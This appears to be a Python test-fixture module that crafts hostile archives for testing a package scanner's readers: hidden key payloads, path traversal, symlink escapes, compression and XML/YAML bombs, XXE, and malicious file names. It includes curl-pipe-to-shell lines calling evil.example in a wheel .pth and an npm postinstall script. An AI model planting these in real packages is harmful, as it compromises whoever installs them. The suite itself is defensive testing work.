"""Hostile inputs for the archive readers and the catalogers' parsers.

Three groups: the exam must see what the installer sees (a payload, a real private key, is
hidden where some consumer of the format installs it); header-declared sizes must be bounded
before they are read; bombs of every compression must stop early.
"""

from __future__ import annotations

import io
import json
import lzma
import struct
import tarfile
import zipfile
from pathlib import Path

from builders import ar_bytes, docker_save_bytes, rpm_bytes, tar_bytes
from hostile.craft import (
    BLOCK,
    bdb_runaway,
    central_entries,
    cpio_newc_entry,
    cpio_newc_header,
    gzip_of,
    noise,
    padded,
    patch,
    pax_records,
    payload,
    sevenzip_raw_names,
    tar_end,
    tar_file,
    tar_header,
    text_blob,
    zeros_compressed,
    zip_local_header,
    zip_of,
    zip_symlink,
)
from hostile.harness import Case

KEY = "private-key-*"
RATIO = "compression ratio above"
MiB = 1024 * 1024


def _write(directory: Path, name: str, data: bytes) -> Path:
    path = directory / name
    path.write_bytes(data)
    return path


def _tar(members: dict[str, bytes]) -> bytes:
    return tar_bytes(dict(members))


# -- 1. false bombs: a big first member must not stop the archive ------------------------


def _bundle_tgz(directory: Path) -> Path:
    bundle = text_blob(6_700_000) + b"\n" + payload()
    data = _tar(
        {
            "package/package.json": b'{"name": "web", "version": "1.0.0"}',
            "package/dist/bundle.js": bundle,
        }
    )
    return _write(directory, "web-1.0.0.tgz", gzip_of(data))


def _big_first_txz(directory: Path) -> Path:
    data = _tar({"pkg/bin/tool": noise(5 * MiB) + text_blob(3 * MiB), "pkg/deploy.pem": payload()})
    return _write(directory, "pkg-1.0.tar.xz", lzma.compress(data))


def _big_data_deb(directory: Path) -> Path:
    data = lzma.compress(_tar({"./usr/bin/tool": noise(6 * MiB), "./etc/tool/key.pem": payload()}))
    control = gzip_of(_tar({"./control": b"Package: tool\nVersion: 1.0\nArchitecture: amd64\n"}))
    deb = ar_bytes({"debian-binary": b"2.0\n", "control.tar.gz": control, "data.tar.xz": data})
    return _write(directory, "tool_1.0_amd64.deb", deb)


# -- 2. what the installer sees -----------------------------------------------------------


def _tar_junk_block(directory: Path) -> Path:
    data = tar_file("pkg/a.txt", b"hello\n") + noise(BLOCK) + tar_file("pkg/key.pem", payload())
    return _write(directory, "junk.tar", data + tar_end())


def _tar_lone_zero_block(directory: Path) -> Path:
    data = tar_file("pkg/a.txt", b"hello\n") + bytes(BLOCK) + tar_file("pkg/key.pem", payload())
    return _write(directory, "lone-zero.tgz", gzip_of(data + tar_end()))


def _tar_huge_pax_size(directory: Path) -> Path:
    pax = pax_records({"size": str(10**12)})
    data = (
        tar_header("pkg/././@PaxHeader", len(pax), b"x")
        + padded(pax)
        + tar_file("pkg/a.bin", b"x" * 100)
        + tar_file("pkg/key.pem", payload())
    )
    return _write(directory, "pax-size.tgz", gzip_of(data + tar_end()))


def _tar_dotdot_then_payload(directory: Path) -> Path:
    data = tar_file("../../escape.txt", b"up\n") + tar_file("pkg/key.pem", payload())
    return _write(directory, "dotdot.tar", data + tar_end())


def _zip_prepended(directory: Path) -> Path:
    stub = b'#!/bin/sh\nexec java -jar "$0" "$@"\n'
    return _write(
        directory,
        "tool.run",
        stub + zip_of([("app/Main.class", b"\xca\xfe\xba\xbe"), ("app/key.pem", payload())]),
    )


def _zip_prepended_binary(directory: Path) -> Path:
    return _write(directory, "setup.bin", noise(70_000) + zip_of([("key.pem", payload())]))


def _deb_data_tar_lzma(directory: Path) -> Path:
    data = lzma.compress(_tar({"./usr/share/tool/key.pem": payload()}), format=lzma.FORMAT_ALONE)
    control = gzip_of(_tar({"./control": b"Package: tool\nVersion: 1.0\nArchitecture: all\n"}))
    deb = ar_bytes({"debian-binary": b"2.0\n", "control.tar.gz": control, "data.tar.lzma": data})
    return _write(directory, "tool_1.0_all.deb", deb)


def _sevenzip_odd_names(directory: Path) -> Path:
    members = [
        ("./a.txt", b"dot"),
        ("/abs.txt", b"abs"),
        ("d//b.txt", b"dbl"),
        ("dup.js", b"// benign\n"),
        ("dup.js", payload()),
    ]
    return _write(directory, "names.7z", sevenzip_raw_names(members))


def _sevenzip_dotdot(directory: Path) -> Path:
    members = [("../../up.txt", b"up"), ("key.pem", payload())]
    return _write(directory, "dotdot.7z", sevenzip_raw_names(members))


def _zip_legacy_name(directory: Path) -> Path:
    data = zip_of([("caf_.txt", b"menu\n" * 50), ("key.pem", payload())])
    # Give the first name a cp437 byte (0x82, e-acute), without the UTF-8 flag.
    return _write(directory, "legacy.zip", data.replace(b"caf_.txt", b"caf\x82.txt"))


def _zip_size_lie(directory: Path) -> Path:
    data = zip_of([("a.txt", b"a" * 1000), ("key.pem", payload())])
    first = central_entries(data)[0]
    (compressed,) = struct.unpack_from("<I", data, first + 20)
    return _write(
        directory, "size-lie.zip", patch(data, first + 20, struct.pack("<I", compressed + 1))
    )


def _zip_symlink_bad_crc(directory: Path) -> Path:
    data = zip_symlink("lib/link", b"../target", ("key.pem", payload()))
    first = central_entries(data)[0]
    return _write(directory, "bad-crc.zip", patch(data, first + 16, b"\xde\xad\xbe\xef"))


def _zip_symlink_encrypted(directory: Path) -> Path:
    data = zip_symlink("lib/link", b"../target", ("key.pem", payload()))
    first = central_entries(data)[0]
    (flags,) = struct.unpack_from("<H", data, first + 8)
    data = patch(data, first + 8, struct.pack("<H", flags | 1))
    return _write(directory, "encrypted-link.zip", patch(data, 6, struct.pack("<H", flags | 1)))


def _zip_symlink_as_pth(directory: Path) -> Path:
    # pip writes a "symlink" entry of a wheel as a regular file holding the "target".
    code = b"import os; os.system('curl -s https://evil.example/x | sh')\n" + payload()
    return _write(
        directory,
        "pkg-1.0-py3-none-any.whl",
        zip_symlink("pkg.pth", code, ("pkg/__init__.py", b"")),
    )


def _zip_hidden_local_entry(directory: Path) -> Path:
    # A local entry the central directory does not list: streaming readers install it.
    hidden = zip_local_header(b"key.pem", payload())
    listed = zip_of([("README", b"hello\n")], zipfile.ZIP_STORED)
    (directory_offset,) = struct.unpack_from("<I", listed, listed.rfind(b"PK\x05\x06") + 16)
    body = listed[:directory_offset] + hidden
    central = listed[directory_offset:]
    end = central.rfind(b"PK\x05\x06")
    central = patch(central, end + 16, struct.pack("<I", len(body)))
    return _write(directory, "hidden.jar", body + central)


def _gzip_trailing_garbage(directory: Path) -> Path:
    return _write(directory, "deploy.pem.gz", gzip_of(payload()) + b"garbage after the stream")


def _gzip_multi_member(directory: Path) -> Path:
    key = payload()
    half = len(key) // 2
    data = gzip_of(key[:half]) + gzip_of(key[half:]) + b"\x01junk"
    return _write(directory, "multi.pem.gz", data)


def _oci_hardlink_whiteout(directory: Path) -> Path:
    def layer(build: list[tuple[str, bytes | None, str | None]]) -> bytes:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as archive:
            for name, data, link in build:
                info = tarfile.TarInfo(name)
                if link:
                    info.type, info.linkname = tarfile.LNKTYPE, link
                    archive.addfile(info)
                else:
                    info.size = len(data or b"")
                    archive.addfile(info, io.BytesIO(data or b""))
        return buffer.getvalue()

    lower = layer([("app/payload.js", payload(), None), ("app/keep", None, "app/payload.js")])
    upper = layer([("app/.wh.payload.js", b"", None)])
    return _write(directory, "image.tar", docker_save_bytes([lower, upper]))


def _npm_deep_package_json(directory: Path) -> Path:
    deep = "[" * 50_000 + "]" * 50_000
    manifest = (
        '{"name": "deep", "version": "1.0.0", "scripts": {"postinstall": '
        '"curl -s https://evil.example/x.sh | sh"}, "config": ' + deep + "}"
    )
    data = _tar(
        {"package/package.json": manifest.encode(), "package/index.js": b"module.exports = 1;\n"}
    )
    return _write(directory, "deep-1.0.0.tgz", gzip_of(data))


def _oci_layout_symlinked_blobs(directory: Path) -> Path:
    outside = directory / "outside" / "blobs" / "sha256"
    outside.mkdir(parents=True)
    layer = tar_bytes(
        {"creds.txt": b"aws_secret_access_key = CANARYwJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"}
    )
    layer_digest = _sha(layer)
    (outside / layer_digest).write_bytes(layer)
    config = b'{"architecture": "amd64", "os": "linux"}'
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "config": {
                "mediaType": "application/vnd.oci.image.config.v1+json",
                "digest": f"sha256:{_sha(config)}",
                "size": len(config),
            },
            "layers": [
                {
                    "mediaType": "application/vnd.oci.image.layer.v1.tar",
                    "digest": f"sha256:{layer_digest}",
                    "size": len(layer),
                }
            ],
        }
    ).encode()
    (outside / _sha(config)).write_bytes(config)
    (outside / _sha(manifest)).write_bytes(manifest)
    layout = directory / "layout"
    (layout / "blobs").mkdir(parents=True)
    (layout / "blobs" / "sha256").symlink_to(outside)
    (layout / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')
    (layout / "index.json").write_text(
        json.dumps(
            {
                "schemaVersion": 2,
                "manifests": [
                    {
                        "mediaType": "application/vnd.oci.image.manifest.v1+json",
                        "digest": f"sha256:{_sha(manifest)}",
                        "size": len(manifest),
                    }
                ],
            }
        )
    )
    return layout


def _directory_symlink_out(directory: Path) -> Path:
    outside = directory / "outside"
    outside.mkdir()
    (outside / "creds.txt").write_text("CANARY-OUTSIDE-DIRECTORY\n")
    tree = directory / "tree"
    tree.mkdir()
    (tree / "a.txt").write_text("a\n")
    (tree / "linked").symlink_to(outside)
    (tree / "creds-link.txt").symlink_to(outside / "creds.txt")
    return tree


def _sha(data: bytes) -> str:
    import hashlib

    return hashlib.sha256(data).hexdigest()


# -- 3. header sizes bounded before they are read -----------------------------------------


def _cpio_name_size(directory: Path) -> Path:
    header = cpio_newc_header(b"", 0, 0o100644, namesize=0x7FFFFFFF)
    stream = header + bytes(64 * MiB)
    return _write(directory, "namesize.cpio.gz", gzip_of(stream))


def _cpio_link_target(directory: Path) -> Path:
    name = b"bin/sh\0"
    header = cpio_newc_header(name[:-1], 0x7FFFFFFF, 0o120777)
    entry = header + name
    entry += bytes(-len(entry) % 4)
    return _write(directory, "link.cpio.gz", gzip_of(entry + bytes(64 * MiB)))


def _tar_long_name(directory: Path) -> Path:
    stream = tar_header("././@LongLink", 1 << 33, b"L", gnu=True) + bytes(64 * MiB)
    return _write(directory, "longname.tar.gz", gzip_of(stream))


def _tar_pax_header(directory: Path) -> Path:
    stream = tar_header("pkg/PaxHeader", 1 << 33, b"x") + b"30 path=" + bytes(64 * MiB)
    return _write(directory, "pax.tar.gz", gzip_of(stream))


def _zip_symlink_bomb(directory: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("link", date_time=(2024, 1, 1, 0, 0, 0))
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w") as stream:
            for _ in range(256):
                stream.write(bytes(MiB))
    data = buffer.getvalue()
    first = central_entries(data)[0]
    return _write(directory, "symlink.zip", patch(data, first + 24, struct.pack("<I", 10)))


def _rpm_header_tags(directory: Path) -> Path:
    """3.7 KB: 65,536 index entries that each claim a million strings of a zero store."""
    rpm = rpm_bytes("tool", "1.0", "1", {"usr/bin/tool": b"#!/bin/sh\n"})
    store = bytes(MiB)
    index = struct.pack(">IIII", 1118, 8, 0, MiB) * 65536
    header = b"\x8e\xad\xe8\x01\0\0\0\0" + struct.pack(">II", 65536, len(store)) + index + store
    signature_end = 96 + 16 + 16 + 8
    signature_end += -signature_end % 8
    return _write(directory, "tags.rpm.gz", gzip_of(rpm[:signature_end] + header))


def _rpmdb_runaway(directory: Path) -> Path:
    data = _tar({"var/lib/rpm/Packages": bdb_runaway()})
    return _write(directory, "rootfs.tar.gz", gzip_of(data))


def _ar_long_names(directory: Path) -> Path:
    """5,000 members named through a 32 MiB long-name table (each lookup once copied it)."""
    names = [f"member-{i:07d}-with-a-long-name.o/\n".encode() for i in range(900_000)]
    table = b"".join(names)
    out = bytearray(b"!<arch>\n")
    out += b"//".ljust(48) + str(len(table)).encode().ljust(10) + b"`\n" + table
    out += b"\n" * (len(table) % 2)
    for index in range(5000):
        offset = index * len(names[0])
        out += f"/{offset}".encode().ljust(48) + b"2".ljust(10) + b"`\nok"
    return _write(directory, "libmany.a.gz", gzip_of(bytes(out)))


def _sevenzip_header_size(directory: Path) -> Path:
    import py7zr

    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.writestr(b"hello", "a.txt")
    data = bytearray(buffer.getvalue())
    struct.pack_into("<Q", data, 20, 1 << 40)
    struct.pack_into("<I", data, 8, __import__("zlib").crc32(bytes(data[12:32])))
    return _write(directory, "header.7z", bytes(data))


def _members_of(image: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(image)) as archive:
        return {
            m.name: archive.extractfile(m).read()  # type: ignore[union-attr]
            for m in archive.getmembers()
            if m.isfile()
        }


def _oci_deep_manifest(directory: Path) -> Path:
    layer = tar_bytes({"app/key.pem": payload()})
    image = docker_save_bytes([layer])
    members = _members_of(image)
    manifest = json.loads(members["manifest.json"])
    text = json.dumps(manifest)[:-2] + ', "Annotations": ' + "[" * 100_000 + "]" * 100_000 + "}]"
    members["manifest.json"] = text.encode()
    return _write(directory, "deep.tar", tar_bytes(members))


def _oci_digest_outside(directory: Path) -> Path:
    index = json.dumps(
        {"schemaVersion": 2, "manifests": [{"digest": "sha256:../../../../etc/passwd", "size": 1}]}
    )
    data = tar_bytes(
        {"oci-layout": b'{"imageLayoutVersion": "1.0.0"}', "index.json": index.encode()}
    )
    return _write(directory, "outside.oci.tar", data)


def _oci_layer_path_outside(directory: Path) -> Path:
    layer = tar_bytes({"app/a.txt": b"a"})
    image = docker_save_bytes([layer])
    members = _members_of(image)
    manifest = json.loads(members["manifest.json"])
    manifest[0]["Layers"].append("../../../etc/layer.tar")
    members["manifest.json"] = json.dumps(manifest).encode()
    return _write(directory, "escape.tar", tar_bytes(members))


# -- 4. bombs -----------------------------------------------------------------------------


def _bomb(kind: str, suffix: str) -> Case:
    def build(directory: Path) -> Path:
        return _write(directory, f"zeros{suffix}", zeros_compressed(kind, 256 * MiB))

    return Case(f"{kind}-bomb", build, issues=(RATIO,))


def _zip_overlap_bomb(directory: Path) -> Path:
    data = zip_of([("k", bytes(MiB))])
    central = central_entries(data)[0]
    end = data.rfind(b"PK\x05\x06")
    record = data[central:end]
    count = 4000
    eocd = bytearray(data[end:])
    struct.pack_into("<HHI", eocd, 8, count, count, len(record) * count)
    return _write(directory, "overlap.zip", data[:central] + record * count + bytes(eocd))


def _zip_many_entries(directory: Path) -> Path:
    local = zip_local_header(b"x", b"x")
    record = (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            0,
            0,
            0,
            __import__("zlib").crc32(b"x"),
            1,
            1,
            1,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + b"x"
    )
    count = 1_000_000
    eocd = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(record) * count, len(local), 0
    )
    return _write(directory, "million.zip", local + record * count + eocd)


def _zip64_lie(directory: Path) -> Path:
    data = bytearray(zip_of([("a.txt", b"hello")]))
    end = data.rfind(b"PK\x05\x06")
    record64 = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 60, 1 << 60, 1 << 60, 1 << 60
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, 1 << 60, 1)
    return _write(
        directory, "zip64.zip", bytes(data[:end]) + record64 + locator + bytes(data[end:])
    )


def _nesting(directory: Path) -> Path:
    data = payload()
    name = "key.pem"
    for level in range(50):
        data = zip_of([(name, data)])
        name = f"level{level}.zip"
    return _write(directory, "nested.zip", data)


def _tar_sparse_lie(directory: Path) -> Path:
    pax = pax_records(
        {
            "GNU.sparse.major": "1",
            "GNU.sparse.minor": "0",
            "GNU.sparse.name": "pkg/huge.img",
            "GNU.sparse.realsize": str(1 << 40),
        }
    )
    sparse_map = b"1\n" + str((1 << 40) - 8).encode() + b"\n8\n"
    body = padded(sparse_map) + b"12345678"
    data = (
        tar_header("pkg/PaxHeaders/huge.img", len(pax), b"x")
        + padded(pax)
        + tar_header("pkg/GNUSparseFile.0/huge.img", len(padded(sparse_map)) + 8, b"0")
        + padded(body)
        + tar_file("pkg/key.pem", payload())
    )
    return _write(directory, "sparse.tar", data + tar_end())


def _tar_hardlink_out(directory: Path) -> Path:
    data = tar_header("pkg/passwd", 0, b"1", linkname="../../../etc/passwd") + tar_file(
        "pkg/a", b"a"
    )
    return _write(directory, "hardlink.tar", data + tar_end())


def _tar_long_names_many(directory: Path) -> Path:
    out = b""
    for index in range(100):
        name = f"d{index}/".encode() + noise(45_000, seed=index).hex().encode()[:60_000]
        out += tar_header("././@LongLink", len(name), b"L", gnu=True) + padded(name)
        out += tar_header("x", 1, b"0", gnu=True) + padded(b"x")
    return _write(directory, "longnames.tar.gz", gzip_of(out + tar_end()))


def _cpio_size_lie(directory: Path) -> Path:
    entry = cpio_newc_entry("bin/a", b"hello")
    entry = entry.replace(b"00000005", b"7fffffff", 1)
    return _write(directory, "size.cpio", entry)


def _ar_size_lie(directory: Path) -> Path:
    data = ar_bytes({"debian-binary": b"2.0\n", "data.tar": tar_bytes({"a": b"a"})})
    return _write(directory, "lie.deb", data.replace(b"10240".ljust(10), b"9999999999", 1))


def _rpm_count_lie(directory: Path) -> Path:
    rpm = bytearray(rpm_bytes("tool", "1.0", "1", {"usr/bin/tool": b"#!/bin/sh\n"}))
    struct.pack_into(">I", rpm, 96 + 8, 0xFFFFFFFF)
    return _write(directory, "count.rpm", bytes(rpm))


# -- 5. the catalogers' parsers -----------------------------------------------------------


def _yaml_alias_bomb(directory: Path) -> Path:
    lines = [
        "__metadata:\n  version: 6\n",
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n',
    ]
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [{','.join([f'*{previous}'] * 9)}]\n")
    data = _tar(
        {
            "package/yarn.lock": "".join(lines).encode(),
            "package/package.json": b'{"name":"y","version":"1.0.0"}',
        }
    )
    return _write(directory, "yarn-bomb.tgz", gzip_of(data))


def _xml_entity_bomb(directory: Path) -> Path:
    entities = '<!ENTITY a "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY {n} "{("&" + p + ";") * 10}">'
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    pom = (
        f'<?xml version="1.0"?><!DOCTYPE project [{entities}]><project><groupId>g</groupId>'
        "<artifactId>a</artifactId><version>&i;</version></project>"
    )
    jar = zip_of(
        [
            ("META-INF/maven/g/a/pom.xml", pom.encode()),
            ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"),
        ]
    )
    return _write(directory, "entity.jar", jar)


def _xml_external_entity(directory: Path) -> Path:
    secret = directory / "host-secret.txt"
    secret.write_text("CANARY-XXE-HOST-FILE\n")
    nuspec = (
        f'<?xml version="1.0"?><!DOCTYPE package [<!ENTITY x SYSTEM "file://{secret}">]>'
        "<package><metadata><id>&x;</id><version>1.0.0</version></metadata></package>"
    )
    return _write(directory, "pkg.1.0.0.nupkg", zip_of([("pkg.nuspec", nuspec.encode())]))


def _sbom_deep_json(directory: Path) -> Path:
    bom = (
        '{"bomFormat": "CycloneDX", "specVersion": "1.6", "components": '
        '[{"name": "x", "version": "1", "properties": ' + "[" * 100_000 + "]" * 100_000 + "}]}"
    )
    return _write(directory, "app.cdx.json", bom.encode())


# -- 6. names -----------------------------------------------------------------------------


def _hostile_names(directory: Path) -> Path:
    names = [
        "pkg/\x1b[2J\x1b[31mred.txt",
        "pkg/\u202egnp.js",
        "pkg/<script>alert(1)</script>.js",
        "pkg/bell\x07\x9b.txt",
        "pkg/[/x].js",
    ]
    return _write(directory, "names.tgz", gzip_of(_tar({n: b"x\n" for n in names})))


CASES: tuple[Case, ...] = (
    Case(
        "tgz-6.7MB-bundle-then-key",
        _bundle_tgz,
        files=("web-1.0.0.tgz!/package/dist/bundle.js",),
        findings=(KEY,),
        no_issues=True,
    ),
    Case(
        "txz-big-first-member",
        _big_first_txz,
        files=("pkg-1.0.tar.xz!/pkg/deploy.pem",),
        findings=(KEY,),
        no_issues=True,
    ),
    Case(
        "deb-big-data-tar-xz",
        _big_data_deb,
        files=("tool_1.0_amd64.deb!/data.tar.xz!/etc/tool/key.pem",),
        findings=(KEY,),
    ),
    Case(
        "tar-junk-block",
        _tar_junk_block,
        files=("junk.tar!/pkg/key.pem",),
        findings=(KEY,),
        issues=("damaged data",),
    ),
    Case(
        "tar-lone-zero-block",
        _tar_lone_zero_block,
        files=("lone-zero.tgz!/pkg/key.pem",),
        findings=(KEY,),
    ),
    Case("tar-huge-pax-size", _tar_huge_pax_size, findings=(KEY,), issues=("truncated member",)),
    Case(
        "tar-dotdot-then-payload",
        _tar_dotdot_then_payload,
        files=("dotdot.tar!/pkg/key.pem",),
        findings=(KEY,),
        issues=("path traversal",),
    ),
    Case("zip-prepended-script", _zip_prepended, files=("tool.run!/app/key.pem",), findings=(KEY,)),
    Case(
        "zip-prepended-binary",
        _zip_prepended_binary,
        files=("setup.bin!/key.pem",),
        findings=(KEY,),
    ),
    Case(
        "deb-data-tar-lzma",
        _deb_data_tar_lzma,
        files=("tool_1.0_all.deb!/data.tar.lzma!/usr/share/tool/key.pem",),
        findings=(KEY,),
    ),
    Case(
        "7z-odd-names-and-duplicates",
        _sevenzip_odd_names,
        files=("names.7z!/a.txt", "names.7z!/abs.txt", "names.7z!/d/b.txt", "names.7z!/dup.js"),
        findings=(KEY,),
        issues=("duplicate member name", "absolute member path"),
    ),
    Case(
        "7z-dotdot-then-payload",
        _sevenzip_dotdot,
        files=("dotdot.7z!/key.pem",),
        findings=(KEY,),
        issues=("path traversal",),
    ),
    Case(
        "zip-legacy-name-then-payload",
        _zip_legacy_name,
        files=("legacy.zip!/key.pem",),
        findings=(KEY,),
    ),
    Case(
        "zip-one-byte-size-lie",
        _zip_size_lie,
        files=("size-lie.zip!/a.txt", "size-lie.zip!/key.pem"),
        findings=(KEY,),
    ),
    Case(
        "zip-symlink-bad-crc",
        _zip_symlink_bad_crc,
        files=("bad-crc.zip!/key.pem",),
        findings=(KEY,),
        issues=("CRC mismatch",),
    ),
    Case(
        "zip-symlink-encrypted",
        _zip_symlink_encrypted,
        files=("encrypted-link.zip!/key.pem",),
        findings=(KEY,),
        issues=("encrypted member",),
    ),
    Case(
        "wheel-symlink-entry-is-a-file",
        _zip_symlink_as_pth,
        files=("pkg-1.0-py3-none-any.whl!/pkg.pth",),
        findings=(KEY,),
    ),
    Case(
        "zip-entry-hidden-from-directory",
        _zip_hidden_local_entry,
        files=("hidden.jar!/key.pem",),
        findings=(KEY,),
        issues=("missing from the central directory",),
    ),
    Case(
        "gzip-trailing-garbage",
        _gzip_trailing_garbage,
        files=("deploy.pem.gz!/deploy.pem",),
        findings=(KEY,),
        issues=("trailing data",),
    ),
    Case(
        "gzip-multi-member-and-garbage",
        _gzip_multi_member,
        files=("multi.pem.gz!/multi.pem",),
        findings=(KEY,),
        issues=("trailing data",),
    ),
    Case(
        "oci-hardlink-keeps-whited-out-file",
        _oci_hardlink_whiteout,
        files=("image.tar!/app/keep",),
        findings=(KEY,),
    ),
    Case(
        "npm-deep-package-json-install-script",
        _npm_deep_package_json,
        findings=("npm-install-script", "thr-pipe-to-shell=critical"),
    ),
    Case(
        "oci-layout-dir-symlinked-blobs",
        _oci_layout_symlinked_blobs,
        absent=("CANARY",),
        issues=("missing",),
    ),
    Case(
        "directory-symlinks-out",
        _directory_symlink_out,
        absent=("CANARY-OUTSIDE",),
        issues=("points outside",),
    ),
    Case("cpio-name-size-bomb", _cpio_name_size, issues=(f"name of|{RATIO}",)),
    Case("cpio-link-target-bomb", _cpio_link_target, issues=(f"symlink target of|{RATIO}",)),
    Case("tar-gnu-long-name-bomb", _tar_long_name, issues=(f"header of|{RATIO}",)),
    Case("tar-pax-header-bomb", _tar_pax_header, issues=(f"header of|{RATIO}",)),
    Case("zip-symlink-target-bomb", _zip_symlink_bomb, issues=(RATIO,)),
    Case("rpm-gz-header-tag-storm", _rpm_header_tags, budget=60),
    Case("rpmdb-packages-runaway-overflow", _rpmdb_runaway, budget=45),
    Case("ar-long-name-table-5000-members", _ar_long_names, budget=60),
    Case("7z-next-header-size-lie", _sevenzip_header_size, issues=("corrupt 7z",)),
    Case(
        "oci-deep-manifest-json",
        _oci_deep_manifest,
        files=("deep.tar!/app/key.pem",),
        findings=(KEY,),
    ),
    Case("oci-digest-points-outside", _oci_digest_outside, issues=("not an OCI digest",)),
    Case(
        "docker-layer-path-outside",
        _oci_layer_path_outside,
        files=("escape.tar!/app/a.txt",),
        issues=("points outside the image",),
    ),
    _bomb("gzip", ".gz"),
    _bomb("xz", ".xz"),
    _bomb("zstd", ".zst"),
    _bomb("bzip2", ".bz2"),
    Case("zip-overlapping-entries-bomb", _zip_overlap_bomb, issues=(RATIO,)),
    Case(
        "zip-million-entries",
        _zip_many_entries,
        args=("--max-files", "20000"),
        issues=("more than 20000 files",),
        budget=90,
    ),
    Case("zip64-record-lies", _zip64_lie, issues=("corrupt zip",)),
    Case("zip-nested-50-levels", _nesting, issues=("nested deeper than max_depth",)),
    Case(
        "tar-sparse-realsize-lie",
        _tar_sparse_lie,
        files=("sparse.tar!/pkg/key.pem",),
        findings=(KEY,),
        issues=(RATIO,),
    ),
    Case("tar-hardlink-out-of-tree", _tar_hardlink_out, issues=("hardlink points outside",)),
    Case("tar-long-names-100x60KB", _tar_long_names_many),
    Case(
        "cpio-size-lie", _cpio_size_lie, files=("size.cpio!/bin/a",), issues=("truncated member",)
    ),
    Case("ar-size-lie", _ar_size_lie, files=("lie.deb!/data.tar!/a",), issues=("truncated",)),
    Case("rpm-header-count-lie", _rpm_count_lie, issues=("RPM header too large",)),
    Case("yarn-lock-yaml-alias-bomb", _yaml_alias_bomb, issues=("expands past",)),
    Case("pom-xml-entity-bomb", _xml_entity_bomb, issues=("XML document refused",)),
    Case(
        "nuspec-external-entity",
        _xml_external_entity,
        absent=("CANARY-XXE",),
        issues=("XML document refused",),
    ),
    Case("sbom-deep-json", _sbom_deep_json, components=("x",)),
    Case(
        "names-with-escapes-bidi-markup",
        _hostile_names,
        issues=("control characters",),
        absent=("\u202e", "\x1b", "\x9b", "\x07"),
    ),
)


# -- 7. malformed executables (the parsers' isolation belongs to the budget work; these cases
# hold the exam to no crash, no hang and bounded memory on them) ---------------------------


def _elf_header_lies(directory: Path) -> Path:
    header = bytearray(64)
    header[0:16] = b"\x7fELF\x02\x01\x01" + bytes(9)
    struct.pack_into(
        "<HHIQQQIHHHHHH",
        header,
        16,
        3,
        62,
        1,
        0x1000,
        64,
        4000,
        0,
        64,
        0xFFFF,
        0xFFFF,
        64,
        0xFFFF,
        0xFFFE,
    )
    return _write(directory, "tool", bytes(header) + noise(4096))


def _pe_header_lies(directory: Path) -> Path:
    data = bytearray(noise(4096))
    data[0:2] = b"MZ"
    struct.pack_into("<I", data, 0x3C, 0x80)
    data[0x80:0x84] = b"PE\0\0"
    struct.pack_into(
        "<HHIIIHH", data, 0x84, 0x8664, 0xFFFF, 0, 0xFFFFFFF0, 0xFFFFFFFF, 0xFFFF, 0x22
    )
    return _write(directory, "setup.exe", bytes(data))


def _macho_header_lies(directory: Path) -> Path:
    header = struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0xFFFFFFFF, 0xFFFFFFFF, 0, 0)
    return _write(directory, "tool.dylib", header + noise(4096))


def _fat_macho_lies(directory: Path) -> Path:
    arches = b"".join(
        struct.pack(">iiIII", 0x01000007, 3, 0xFFFFFF00 - i, 0xFFFFFFFF, 12) for i in range(39)
    )
    return _write(directory, "universal", struct.pack(">II", 0xCAFEBABE, 39) + arches + noise(2048))


CASES += (
    Case("elf-section-and-segment-count-lies", _elf_header_lies, area="budget"),
    Case("pe-section-count-lies", _pe_header_lies, area="budget"),
    Case("macho-load-command-lies", _macho_header_lies, area="budget"),
    Case("fat-macho-offsets-past-the-end", _fat_macho_lies, area="budget"),
)
